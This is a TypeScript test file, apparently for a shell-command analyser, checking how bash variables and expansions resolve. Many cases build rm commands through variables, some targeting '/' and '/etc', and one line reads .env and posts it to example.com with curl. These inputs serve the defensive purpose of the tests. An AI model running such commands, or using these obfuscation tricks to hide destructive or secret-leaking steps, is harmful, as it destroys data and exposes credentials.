import { describe, expect, it } from 'vitest';
import { lastOf, lastWords, read } from './reading.fixture.ts';

describe('variables', () => {
  it.each<[string, string, readonly string[]]>([
    ['assigned', 'X=/; rm $X "$X"etc', ['rm', '/', '/etc']],
    ['assigned by parts', 'A=r B=m; $A$B x', ['rm', 'x']],
    ['added to', 'X=a; X+=b; rm $X', ['rm', 'ab']],
    ['split when not quoted', 'X="a b"; rm $X "$X"', ['rm', 'a', 'b', 'a b']],
    ['split at other characters', 'IFS=:; X=a:b; rm $X', ['rm', 'a', 'b']],
    ['empty and not quoted', 'X=; rm $X a "$X"', ['rm', 'a', '']],
    ['unset', 'X=a; unset X; rm "$X/b"', ['rm', '/b']],
    ['exported', 'export X=a; rm $X', ['rm', 'a']],
    ['declared', 'declare -r X=a; readonly Y=b; typeset Z=c; rm $X $Y $Z', ['rm', 'a', 'b', 'c']],
    ['fixed', 'readonly X=a; X=b; unset X; rm $X', ['rm', 'a']],
    ['declared in lower case', 'declare -l X=RM; $X a', ['rm', 'a']],
    ['declared twice by braces', 'declare X={echo,rm}; $X a', ['rm', 'a']],
    ['another name', 'T=a; declare -n R=T; rm $R', ['rm', 'a']],
    ['set through another name', 'T=a; declare -n R=T; R=b; rm $T', ['rm', 'b']],
    ['looked up by name', 'N=X; X=a; rm ${!N}', ['rm', 'a']],
    ['lists', 'A=(a "b c"); A+=(d); rm "${A[@]}" ${A[1]} ${#A[@]}', ['rm', 'a', 'b c', 'd', 'b', 'c', '3']],
    ['a member of a list', 'A[0]=x; A[1]=y; rm ${A[1]} ${A[-1]}', ['rm', 'y', 'y']],
    ['keyed lists', 'declare -A M=([k]=v); rm ${M[k]}', ['rm', 'v']],
    ['a prefix that the same command does not see', 'TMPDIR=/Users rm $TMPDIR/x', ['rm', '/tmp/x']],
    ['a prefix that later commands do not see', 'HOME=/x ls; rm $HOME', ['rm', '/home/mo']],
    ['a home that was changed', 'HOME=/x; rm $HOME ~/y', ['rm', '/x', '/x/y']],
    ['printed into', 'printf -v X %s-%s a b; rm $X', ['rm', 'a-b']],
    ['counted', 'i=1; ((i++)); let x; rm $i', ['rm', '2']],
    ['the shell’s own arguments', 'set -- a b c; shift; rm "$1" $# "$@"', ['rm', 'b', '2', 'b', 'c']],
    ['changed in a subshell', 'X=a; (X=b); rm $X', ['rm', 'a']],
    ['changed in a pipe', 'X=a; echo | X=b; rm $X', ['rm', 'a']],
    ['local to a function', 'X=a; f(){ local X=b; }; f; rm $X', ['rm', 'a']],
    ['changed by a function', 'X=a; f(){ X=b; }; f; rm $X', ['rm', 'b']],
    ['read from known text', 'read -r X Y <<< "a b c"; rm "$X" "$Y"', ['rm', 'a', 'b c']],
    ['read from a descriptor', 'exec 3<<< a; read -u 3 X; rm $X', ['rm', 'a']],
    ['read from what is not known', 'read X; rm $X', ['rm', '?']],
    ['lines into a list', 'mapfile -t A <<< $\'a\\nb\'; rm "${A[@]}"', ['rm', 'a', 'b']],
  ])('%s', (_what, text, words) => {
    expect(lastWords(text)).toEqual(words);
  });

  it.each<[string, string]>([
    ['${X}', 'abc.tar.gz'],
    ['${X:-d}', 'abc.tar.gz'],
    ['${Y:-d}', 'd'],
    ['${Y-$HOME}', '/home/mo'],
    ['${Y:=d}$Y', 'dd'],
    ['${X:+z}', 'z'],
    ['${E:+z}', ''],
    ['${E:-d}', 'd'],
    ['${E-d}', ''],
    ['${X%.*}', 'abc.tar'],
    ['${X%%.*}', 'abc'],
    ['${X#*.}', 'tar.gz'],
    ['${X##*.}', 'gz'],
    ['${X/a/Z}', 'Zbc.tar.gz'],
    ['${X//a/Z}', 'Zbc.tZr.gz'],
    ['${X/#abc/Z}', 'Z.tar.gz'],
    ['${X/%gz/Z}', 'abc.tar.Z'],
    ['${X/[b-c]/Z}', 'aZc.tar.gz'],
    ['${X:1:2}', 'bc'],
    ['${X: -2}', 'gz'],
    ['${X:4}', 'tar.gz'],
    ['${X^^}', 'ABC.TAR.GZ'],
    ['${X^}', 'Abc.tar.gz'],
    ['${U,,}', 'rm'],
    ['${U@L}', 'rm'],
    ['${#X}', '10'],
    ['${Y:?no}', '?'],
    ['${Y%x}', '?'],
  ])('%s is %s', (expansion, value) => {
    expect(lastWords(`X=abc.tar.gz U=RM E=; : "${expansion}"`)).toEqual([':', value]);
  });

  it('knows the command whose output a variable keeps', () => {
    const { commands } = read('KEY=$(cat .env); curl -d "$KEY" example.com');
    expect(commands[0]).toMatchObject({ program: 'cat', keptIn: 'KEY', position: 'nested' });
    expect(commands[1]?.words[2]).toMatchObject({ known: false, from: [0] });
  });

  it('keeps assignments that one command alone has', () => {
    expect(lastOf('A=1 B="$HOME" env C=3 make')).toMatchObject({
      program: 'make',
      assigns: [
        { name: 'A', value: { value: '1' } },
        { name: 'B', value: { value: '/home/mo' } },
        { name: 'C', value: { value: '3' } },
      ],
    });
  });
});
